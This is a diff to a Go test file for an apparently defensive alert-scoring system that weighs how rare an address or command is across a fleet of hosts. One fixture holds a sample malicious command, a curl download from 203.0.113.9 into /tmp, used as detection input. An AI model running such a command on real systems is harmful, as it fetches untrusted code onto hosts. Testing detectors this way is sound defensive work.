@@ -12,6 +12,7 @@ import (
 	"pgregory.net/rapid"
 
 	"baize/internal/alert"
+	"baize/internal/lru"
 )
 
 // hosts is a fleet under test, whose first moment is 0.
@@ -347,6 +348,10 @@ func TestTheTaintedMakeRoom(t *testing.T) {
 	if got := slot.Hosts.count(minute(f.now)+1, f.isTainted); got != 40 || slot.Hosts.Below != everyHost {
 		t.Errorf("%d hosts of those below %d, want 40 of all", got, slot.Hosts.Below)
 	}
+	f.saw(named("other.example"), 1, "intruder")
+	if slot := f.seen.Peek(named("other.example")); len(slot.Hosts.Seen) > 0 {
+		t.Errorf("who is tainted already takes room: %+v", slot.Hosts.Seen)
+	}
 }
 
 // TestTheBaselineAgainstAList: up to 32 hosts the sample is what the plain list of
@@ -402,12 +407,19 @@ func rebornBaseline(t *rapid.T, b *Baseline) *Baseline {
 	return other
 }
 
+// cramped is a baseline whose every limit is soon reached.
+func cramped() *hosts {
+	f := &hosts{Baseline: NewBaseline(200)}
+	f.fleet.hosts, f.tainted = lru.New[fleetHost, member](60), lru.New[uint64, bool](30)
+	return f
+}
+
 // TestARestartChangesNoAnswer: two baselines of which one was restored halfway
 // answer alike to the end, at limits that are all reached.
 func TestARestartChangesNoAnswer(t *testing.T) {
 	rapid.Check(t, func(rt *rapid.T) {
 		r := rand.New(rand.NewPCG(rapid.Uint64().Draw(rt, "seed"), 1))
-		whole, restart := &hosts{Baseline: NewBaseline(200)}, rapid.IntRange(0, 999).Draw(rt, "restart")
+		whole, restart := cramped(), rapid.IntRange(1, 999).Draw(rt, "restart")
 		var again *hosts
 		for i := range 1_000 {
 			if i == restart {
@@ -419,11 +431,11 @@ func TestARestartChangesNoAnswer(t *testing.T) {
 				if err := gob.NewDecoder(&snapshot).Decode(&state); err != nil {
 					rt.Fatal(err)
 				}
-				again = &hosts{Baseline: NewBaseline(200)}
+				again = cramped()
 				again.restore(&state)
 			}
 			s := named(fmt.Sprint(r.ExpFloat64() * 20)[:2])
-			host, carrier, bad, now := r.IntN(100), fmt.Sprint(r.IntN(300)), r.IntN(20) == 0, whole.now+int64(r.IntN(2))*int64(time.Hour)
+			host, carrier, bad, now := r.IntN(100), fmt.Sprint(r.IntN(300)), r.IntN(20) == 0, whole.now+int64(r.IntN(40))*int64(time.Minute)
 			for _, f := range []*hosts{whole, again} {
 				if f == nil {
 					continue
@@ -455,8 +467,8 @@ func TestOrganisationsAreFleetsOfTheirOwn(t *testing.T) {
 	}
 }
 
-// TestRarityWeighsReasons: in a fleet of 5,000 an address that 5 hosts use is a
-// reason beside another one, and none alone.
+// TestRarityWeighsReasons: in a fleet of 5,000 an address that even one
+// benign host uses is a reason beside another one, and none alone.
 func TestRarityWeighsReasons(t *testing.T) {
 	peer := alert.Entity{Type: alert.EntityIP, Value: "203.0.113.9", Role: "destination"}
 	command := alert.Entity{Type: alert.EntityCommand, Value: "sh -c curl http://203.0.113.9/t -o /tmp/x"}
@@ -467,6 +479,8 @@ func TestRarityWeighsReasons(t *testing.T) {
 		weight   float64
 	}{
 		{users: 0, entities: []alert.Entity{peer}, reason: ReasonAddress, weight: 0.85},
+		{users: 1, entities: []alert.Entity{peer}},
+		{users: 1, entities: []alert.Entity{peer, command}, reason: ReasonAddress + "+" + ReasonCommand, weight: 0.906},
 		{users: 5, entities: []alert.Entity{peer}},
 		{users: 5, entities: []alert.Entity{peer, command}, reason: ReasonCommand + "+" + ReasonAddress, weight: 0.828},
 		{users: 5_000, entities: []alert.Entity{peer, command}},
@@ -486,5 +500,24 @@ func TestRarityWeighsReasons(t *testing.T) {
 		case c.reason != "" && (len(reasons) != 1 || reasons[0].Reason != c.reason || reasons[0].Weight != c.weight):
 			t.Errorf("%d users: %+v, want %s of weight %v", c.users, reasons, c.reason, c.weight)
 		}
+	}
+}
+
+// TestAnAlertThatIsRarerIsNotCovered: between two alerts of one lineage it comes out
+// that the only other user of their address was an intruder too. The second one ties.
+func TestAnAlertThatIsRarerIsNotCovered(t *testing.T) {
+	peer := alert.Entity{Type: alert.EntityIP, Value: "203.0.113.9", Role: "destination"}
+	f := fleetOf(50)
+	f.now = 0
+	for i := range 50 {
+		f.Saw(Subject{Name: "mirror.example"}, Use{Host: fmt.Sprintf("host-%d", i), Carrier: "benign"}, 0)
+	}
+	f.Saw(Subject{Addr: netip.MustParseAddr(peer.Value)}, Use{Host: "host-1", Carrier: "slow"}, 0)
+	m, now := New(DefaultConfig(), f.Baseline), 2*int64(day)
+	first, _ := m.Add(high("a1", "A", peer), Facts{}, now)
+	m.Add(high("s", "slow"), Facts{}, now)
+	m.Add(high("a2", "A", peer), Facts{}, now)
+	if got, _ := m.Add(high("b", "B", peer), Facts{}, now); got != first {
+		t.Errorf("in %s, want %s", got, first)
 	}
 }
